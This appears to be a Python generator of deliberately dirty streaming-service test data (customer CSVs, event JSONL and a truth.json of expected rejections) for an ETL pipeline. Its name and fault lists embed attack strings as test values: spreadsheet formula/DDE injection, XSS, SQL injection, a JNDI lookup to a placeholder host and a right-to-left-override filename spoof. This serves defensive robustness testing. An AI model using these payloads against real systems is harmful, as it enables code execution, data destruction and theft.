"""Make the streaming service's data, of any size, dirty on purpose.

    python -m examples.streaming.generate --customers 100000 --events 1000000 --seed 1 -o build/data

The same seed gives the same bytes. ``truth.json`` says what is dirty: for each file the number of rows, and
for each reason how many of them must be rejected. Rows are written as they are generated; only the counts of
each file are kept in memory.

Customers come as full daily files, then once more unchanged (a redelivery) and once corrected. Events come as
a stream delivers them: in files by hour of arrival, some a day late, some twice, with renamed and new fields.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import random
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

from scripts.demo.dataset import File, Truth

CUSTOMER_COLUMNS = (
    "customer_id",
    "first_name",
    "last_name",
    "email",
    "country",
    "signup_date",
    "last_login",
    "total_orders",
    "total_spent_usd",
    "is_premium",
)
FIRST_DAY = date(2026, 1, 15)
_FIRST = ("Amara", "Björn", "Chloé", "Dmitri", "Elif", "Fatou", "Goran", "Hana", "Inés", "Jun", "芽衣", "Zoë")
_LAST = ("Okafor", "Svensson", "Lefèvre", "Ivanov", "Yılmaz", "Diallo", "Horvat", "Sato", "García", "O'Neil")
_COUNTRIES = ("NG", "SE", "FR", "RS", "TR", "SN", "HR", "JP", "ES", "IE", "US", "BR", "IN", "NO", "DE")
_DEVICES = ("phone", "tablet", "tv", "web")
_TYPES = ("play", "pause", "resume", "stop", "complete")
_INJECTIONS = (
    '=HYPERLINK("https://example.com/"&A1)',
    "+1+1|' /C calc'!A0",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE customers; --",
    "Robert') OR ('1'='1",
    "${jndi:ldap://example.com/a}",
    "`` MERGE INTO t",
)
"""Strings that are valid names and must stay text, however they look."""
_TITLES = 400


def deliveries(rows: int, seed: int, dirt: float | None = 0.02) -> dict[str, Iterator[File]]:
    """Yield so many events' files, and those of a tenth as many customers."""
    customers = max(1, rows // 10)
    return {
        "customers": customer_files(customers, seed, dirt=dirt),
        "viewing_events": event_files(rows, seed, customers, dirt=dirt),
    }


def customer_files(customers: int, seed: int, days: int = 2, dirt: float | None = 0.02) -> Iterator[File]:
    """Yield the files in the order of delivery: each day's, the first day's again, the last day's corrected.

    ``dirt`` is the share of dirty rows. The redelivery has the same bytes under another key. With ``None``
    everything is clean for any CSV reader.
    """
    for day in range(days):
        yield _customer_file(customers, seed, day, f"{_day(day)}.csv", dirt)
    yield _customer_file(customers, seed, 0, f"{_day(0)}-again.csv", dirt)
    last = f"{_day(days - 1)}-corrected.csv"
    clean = None if dirt is None else 0.0
    yield _customer_file(max(1, customers // 50), seed, days - 1, last, clean, corrected=True)


def _day(day: int) -> str:
    return (FIRST_DAY + timedelta(days=day)).isoformat()


def _customer_file(
    customers: int, seed: int, day: int, name: str, dirt: float | None, *, corrected: bool = False
) -> File:
    truth = Truth(f"incoming/customers/{name}")
    return truth, _chunks(_customer_lines(truth, customers, seed, day, dirt, corrected=corrected), truth)


def _customer_lines(
    truth: Truth, customers: int, seed: int, day: int, dirt: float | None, *, corrected: bool
) -> Iterator[bytes]:
    """The lines of one file. Odd days come from Windows: with a byte-order mark and CRLF."""
    rng = random.Random(f"customers {seed} {day} {corrected}")  # noqa: S311 - data, not a secret
    windows = day % 2 == 1 and dirt is not None
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n" if windows else "\n")

    def line() -> bytes:
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text.encode()

    if windows:
        yield b"\xef\xbb\xbf"
    writer.writerow(CUSTOMER_COLUMNS)
    yield line()
    for number in range(1, customers + 1):
        row = _customer(rng, number, day, corrected=corrected, odd=dirt is not None)
        truth.rows += 1
        if dirt is not None and rng.random() < dirt:
            spoil, reason = _CUSTOMER_FAULTS[rng.randrange(len(_CUSTOMER_FAULTS))]
            spoil(row)
            if reason is not None:
                truth.rejected[reason] += 1
        if row[0] == "not a row":
            yield b"C00001,only,three\n"
            continue
        writer.writerow(row)
        yield line()


def _customer(rng: random.Random, number: int, day: int, *, corrected: bool, odd: bool) -> list[str]:
    signup = date(2024, 1, 1) + timedelta(days=number % 600)
    orders = number % 60 + day
    first = _FIRST[rng.randrange(len(_FIRST))]
    last = _LAST[rng.randrange(len(_LAST))]
    if odd and number % 97 == 0:
        first = _INJECTIONS[number // 97 % len(_INJECTIONS)]
    if odd and number % 101 == 0:
        first = f"{first}\nMaria"
    return [
        f"C{number:05d}",
        first,
        f"{last}-Corrected" if corrected else last,
        "" if number % 20 == 0 else f"customer{number}@example.com",
        _COUNTRIES[number % len(_COUNTRIES)],
        signup.isoformat(),
        (signup + timedelta(days=rng.randrange(120))).isoformat(),
        str(orders),
        f"{orders * (5 + number % 75)}.{number % 100:02d}",
        "TRUE" if orders > 40 else "FALSE",
    ]


def _put(place: int, value: str) -> Callable[[list[str]], None]:
    def spoil(row: list[str]) -> None:
        row[place] = value

    return spoil


_CUSTOMER_FAULTS: tuple[tuple[Callable[[list[str]], None], str | None], ...] = (
    (_put(0, ""), "customer_id:missing"),
    (_put(0, "C" * 65), "customer_id:too_long"),
    (_put(1, "Bell\x07"), "first_name:control_characters"),
    (_put(2, "\u202egnp.exe"), "last_name:control_characters"),
    (_put(3, "nobody at example.com"), "email:malformed"),
    (_put(4, "Narnia"), "country:not_allowed"),
    (_put(4, "XX"), "country:not_allowed"),
    (_put(5, "2025-02-30"), "signup_date:not_date"),
    (_put(5, "15/01/2025"), "signup_date:not_date"),
    (_put(6, "2011-01-01"), "last_login:before_signup_date"),
    (_put(7, "many"), "total_orders:not_integer"),
    (_put(7, "-1"), "total_orders:too_low"),
    (_put(8, "1,234.50"), "total_spent_usd:not_decimal"),
    (_put(8, "12.345"), "total_spent_usd:not_decimal"),
    (_put(9, "yes"), "is_premium:not_boolean"),
    (_put(0, "not a row"), "record:field_count"),
    (_put(1, "  Anna \t Lena "), None),
    (_put(2, 'the "Great"'), None),
)
"""Changes to a row, and the reason that the ETL must give; ``None`` if the row stays valid."""


def event_files(
    events: int, seed: int, customers: int, days: int = 4, dirt: float | None = 0.02
) -> Iterator[File]:
    """Yield the stream's files, one for every six hours of ``days``, in the order of delivery.

    With ``dirt`` of ``None`` all is clean: each field has one name and one type throughout.
    """
    files = days * 4
    for number in range(files):
        count = events // files + (number < events % files)
        begin = datetime.combine(FIRST_DAY, datetime.min.time(), UTC) + timedelta(hours=6 * number)
        truth = Truth(
            f"incoming/stream/viewing_events/{begin:%Y/%m/%d/%H}/viewing-events-1-{begin:%Y-%m-%d-%H}.jsonl"
        )
        lines = _event_lines(truth, count, f"{seed}-{number}", begin, customers=customers, dirt=dirt)
        yield truth, _chunks(lines, truth)


def _event_lines(
    truth: Truth, count: int, name: str, begin: datetime, *, customers: int, dirt: float | None
) -> Iterator[bytes]:
    """The lines of one file: one in fifty is sent twice, one in a hundred is a day late."""
    rng = random.Random(f"events {name}")  # noqa: S311 - data, not a secret
    again = b""
    for number in range(count):
        truth.rows += 1
        if again and number % 50 == 49:
            truth.repeated += 1
            yield again
            again = b""
            continue
        fault = dirt is not None and rng.random() < dirt
        line, reason = _event(rng, name, number, begin, customers, fault=fault, drift=dirt is not None)
        if reason is not None:
            truth.rejected[reason] += 1
        elif not fault:
            again = line
        yield line


def _event(
    rng: random.Random, name: str, number: int, begin: datetime, customers: int, *, fault: bool, drift: bool
) -> tuple[bytes, str | None]:
    late = timedelta(days=1) if number % 100 == 7 else timedelta()
    at = begin + timedelta(seconds=rng.randrange(6 * 3600)) - late
    kind = number % 10 if drift else 0
    position = rng.randrange(7200)
    event: dict[str, object] = {
        "event_id": f"e-{name}-{number}",
        "event_time": at.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "customer_id": f"C{rng.randrange(1, customers + customers // 50 + 2):05d}",
        "title_id": f"t{rng.randrange(1, _TITLES):03d}",
        "event_type": _TYPES[rng.randrange(len(_TYPES))],
        "position_seconds": position,
        "watched_seconds": rng.randrange(600),
        "device": _DEVICES[rng.randrange(len(_DEVICES))],
        "country": _COUNTRIES[rng.randrange(len(_COUNTRIES))],
    }
    if kind == 1:
        event["event_time"] = int(at.timestamp())
    elif kind == 2:
        event["event_time"] = int(at.timestamp() * 1000)
    elif kind == 3:
        event["device_type"] = event.pop("device")
    elif kind == 4:
        event["app_version"] = "3.1.0"
    elif kind == 5:
        event |= {"app_version": "3.2.0", "session": {"id": number, "ab_test": "blue"}}
    elif kind == 6:
        event["event_time"] = (at + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%S.250+01:00")
    elif kind == 7:
        event["position_seconds"] = str(position)
    reason = None
    if fault:
        spoil, reason = _EVENT_FAULTS[rng.randrange(len(_EVENT_FAULTS))]
        spoiled = spoil(event)
        if spoiled is not None:
            return spoiled + b"\n", reason
    return json.dumps(event, ensure_ascii=False, separators=(",", ":")).encode() + b"\n", reason


def _set(name: str, value: object) -> Callable[[dict[str, object]], bytes | None]:
    def spoil(event: dict[str, object]) -> None:
        if name == "device":
            event.pop("device_type", None)
        event[name] = value

    return spoil


def _line(line: bytes) -> Callable[[dict[str, object]], bytes | None]:
    return lambda _: line


_EVENT_FAULTS: tuple[tuple[Callable[[dict[str, object]], bytes | None], str | None], ...] = (
    (_set("event_id", None), "event_id:missing"),
    (_set("event_id", "<script>"), "event_id:malformed"),
    (_set("event_time", "yesterday"), "event_time:not_timestamp"),
    (_set("event_time", "2026-01-15T10:00:00"), "event_time:not_timestamp"),
    (_set("event_time", 12345), "event_time:not_timestamp"),
    (_set("customer_id", "' OR 1=1 --"), None),
    (_set("event_type", "rewind"), "event_type:not_allowed"),
    (_set("position_seconds", -5), "position_seconds:too_low"),
    (_set("position_seconds", 1.5), "position_seconds:not_integer"),
    (_set("watched_seconds", 1_000_000), "watched_seconds:too_high"),
    (_set("device", "toaster"), "device:not_allowed"),
    (_set("country", "XX"), "country:not_allowed"),
    (_line(b'{"event_id": "e-cut-off", "event_ti'), "record:not_json"),
    (_line(b"[1, 2, 3]"), "record:not_an_object"),
    (_line(b'{"event_id": "e-half", "title_id": "\\ud83d"}'), "record:half_character"),
    (_line(b'{"event_id": "e-latin", "title_id": "\xe9"}'), "record:not_utf8"),
    (_line(b'{"event_id": "e-a", "event_id": "e-b"}'), "record:name_twice"),
    (_set("note", "=1+1"), None),
    (_set("watched_seconds", None), None),
)


def _chunks(lines: Iterator[bytes], truth: Truth) -> Iterator[bytes]:
    """Join lines to chunks of about a mebibyte."""
    waiting: list[bytes] = []
    size = 0
    for line in lines:
        waiting.append(line)
        size += len(line)
        if size >= 1024 * 1024:
            truth.size_bytes += size
            yield b"".join(waiting)
            waiting, size = [], 0
    truth.size_bytes += size
    yield b"".join(waiting)


def main() -> int:
    """Write the files and ``truth.json`` into a folder."""
    parser = argparse.ArgumentParser(
        prog="python -m examples.streaming.generate", description="Make data, dirty on purpose."
    )
    parser.add_argument("--customers", type=int, default=1_000)
    parser.add_argument("--events", type=int, default=10_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("-o", "--out", type=Path, required=True)
    options = parser.parse_args()
    if options.customers < 1 or options.events < 1:
        print("generate: --customers and --events must be one or more.", file=sys.stderr)
        return 2
    truths = []
    for files in (
        customer_files(options.customers, options.seed),
        event_files(options.events, options.seed, options.customers),
    ):
        for truth, chunks in files:
            path = options.out / truth.key
            path.parent.mkdir(parents=True, exist_ok=True)
            with path.open("wb") as out:
                for chunk in chunks:
                    out.write(chunk)
            truths.append(truth.as_document())
            print(f"generate: {path}: {truth.rows} rows", file=sys.stderr)
    (options.out / "truth.json").write_text(
        json.dumps({"seed": options.seed, "files": truths}, indent=1) + "\n"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
